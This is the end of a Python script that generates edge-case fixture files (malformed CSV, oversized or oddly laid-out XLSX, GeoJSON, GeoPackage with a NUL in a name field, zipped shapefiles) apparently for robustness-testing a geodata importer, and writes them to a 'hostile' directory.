            con.execute(f'DROP TRIGGER "{trigger}"')  # GDAL's spatial-index triggers need its functions
        con.execute("UPDATE venues SET 名称 = substr(名称, 1, 2) || char(0) || substr(名称, 3) WHERE fid = 2")
        con.commit()
        con.close()
        data = p.read_bytes()
    return data, "nul.gpkg", {"names": list(s.name)}


MAKERS = {
    "million_rows": xlsx_million_rows,
    "declared_rows": xlsx_declared_rows,
    "big_cell": xlsx_big_cell,
    "merged": xlsx_merged_category,
    "semicolon": lambda: csv_delimited(delimiter=";"),
    "tab_utf16": lambda: csv_delimited(delimiter="\t", encoding="utf-16"),
    "title_rows": lambda: csv_delimited(title_rows=2),
    "traps": lambda: csv_delimited(headers="traps"),
    "trailing": lambda: csv_delimited(trailing=True, delimiter=";"),
    "shapes": geojson_shapes,
    "empty_props": lambda: geojson_shapes(kinds=("point",), empty_coordinate_props=True),
    "address_only": lambda: geojson_shapes(kinds=("point",), address_only=3),
    "multi_layer": gpkg_layers,
    "gcj_unknown": gcj_near_lines,
    "broken_geojson": malformed_geo,
    **{
        f"sheets_{k}": (lambda k=k: xlsx_sheets(layout=k))
        for k in ("instructions_first", "empty_first", "hidden_sheet", "list_on_sheet3")
    },
    "header_below": xlsx_header_below,
    "formulas_cached": xlsx_formulas,
    "formulas_uncached": lambda: xlsx_formulas(cached=False),
    "dates": xlsx_dates_as_coordinates,
    **{
        f"text_{k}": (lambda k=k: text_numbers(kind=k))
        for k in ("fullwidth", "decimal_comma", "dms", "hemisphere")
    },
    "one_cell": lonlat_one_cell,
    "one_cell_latlon": lambda: lonlat_one_cell(order="latlon", header="经纬度"),
    "bom_gb18030": csv_bom_gb18030,
    "mixed_endings": csv_mixed_line_endings,
    "dup_headers": csv_duplicate_headers,
    **{f"control_{f}": (lambda f=f: names_with_control_chars(fmt=f)) for f in ("csv", "xlsx", "geojson")},
    "markup": markup_names,
    "geojson_mixed": geojson_mixed,
    "geojson_3857": lambda: geojson_mixed(crs="EPSG:3857"),
    "shapefile_zip": zipped_shapefile,
}


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    out.mkdir(parents=True, exist_ok=True)
    for key, maker in MAKERS.items():
        data, name, _ = maker()
        (out / f"{key}_{name}").write_bytes(data)
        print(f"{key}_{name}: {len(data):,} bytes")
